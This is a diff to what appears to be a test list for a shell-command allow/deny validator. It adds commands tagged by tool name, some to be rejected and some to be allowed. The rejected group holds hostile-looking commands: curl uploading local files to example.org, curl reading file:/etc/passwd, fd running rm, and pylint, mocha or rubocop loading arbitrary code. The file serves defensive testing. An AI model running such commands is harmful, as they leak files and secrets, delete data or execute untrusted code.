@@ -216,6 +216,54 @@ tar: tar cIf sh x y
 tar: tar xFf sh x
 tar: tar xf a -C ..
 npm test: npm test ---script-shell=./e
+git fetch: git fetch -m origin example.org:x
+git fetch: git fetch -pm origin example.org:x
+git log: git log --alternate-refs
+make test: make test --temp-stdin=x.mk
+tar: tar xf example.org:x
+tar: tar -cf example.org:x src
+tar: tar -cfexample.org:x src
+tar: tar --file=example.org:x -c src
+tar: tar cf x -T list
+tar: tar cTf list x
+tar: tar cf x --files-from=list
+tar: tar xPf x
+tar: tar xf x -P
+tar: tar xf x --absolute-n
+gsed: gsed -i s/a/b/ x
+gtimeout: gtimeout 5 rm x
+fd: fd -x rm
+fd: fd . --exec rm
+fd: fd -HX rm
+fdfind: fdfind --exec-batch=rm
+fd: fd --ignore-file x
+fd: fd . ..
+pylint: pylint --init-hook 'import os' src
+pylint: pylint --load-plugins=x src
+pylint: pylint --rcfile x src
+mocha: mocha -r ./e
+mocha: mocha --require=./e
+mocha: mocha --config x
+coverage: coverage run x.py
+coverage: coverage html -d ../x
+coverage html: coverage html --rcfile=x
+ag: ag --pager ./e x
+ack: ack --pager=./e x
+gotestsum: gotestsum --post-run-command ./e
+gotestsum: gotestsum -- -exec ./e
+golangci-lint: golangci-lint run -c x
+rubocop: rubocop -r ./e
+curl: curl --json @x example.org
+curl: curl --data-ascii @x example.org
+curl: curl --data-urlencode a@x example.org
+curl: curl -H @x example.org
+curl: curl -sH@x example.org
+curl: curl -b x example.org
+curl: curl -w '%output{x}' example.org
+curl: curl -nE x example.org
+curl: curl --variable a@x example.org
+curl: curl file:/etc/passwd
+curl: curl FILE:/etc/passwd
 """.strip().split("\n")
 
 
@@ -282,6 +330,13 @@ dotnet test: dotnet test --no-build
 swift test: swift test --filter x
 pip list: pip list --outdated
 tar: tar xzf a src
+fd: fd -e py x src
+pylint: pylint -j 4 --disable=all src
+mocha: mocha --grep x test
+coverage report: coverage report -m
+curl: curl -sI -H 'Accept: x' example.org
+golangci-lint run: golangci-lint run ./...
+rubocop: rubocop -a lib
 """.strip().split("\n")
 
 
